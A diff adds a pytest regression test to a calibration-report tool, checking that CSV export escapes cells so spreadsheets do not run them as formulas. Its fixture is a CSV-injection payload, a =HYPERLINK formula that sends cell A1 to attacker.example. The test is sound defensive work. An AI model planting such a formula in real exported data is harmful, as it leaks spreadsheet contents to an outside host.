@@ -109,3 +109,18 @@ def test_calibration_in_markdown_and_csv(tmp_path: Path) -> None:
     assert float(get[("ece_severity_mean", "all", "5")]) == means["ece"][4]
     assert float(get[("corruptions_measured", "benchmark", "5")]) == 2
     assert get[("brier_severity_mean", "all", "2")] == ""  # not measured
+
+
+def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
+    """A model id like =HYPERLINK(...) was written raw: a spreadsheet would run it (CSV injection,
+    OWASP). It is written as text, with a leading quote; the numbers stay numbers."""
+    from results.support import make_results, write
+
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    path = write(tmp_path, "h.json", make_results(evil, 0.8, 0.2, seed=4))
+    out = tmp_path / "r.csv"
+    assert main(["report", str(path), "--format", "csv", "--out", str(out)]) == 0
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert {r["model"] for r in rows} == {"'" + evil}
+    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r)
+    assert all(float(r["value"]) >= 0 for r in rows if r["value"])
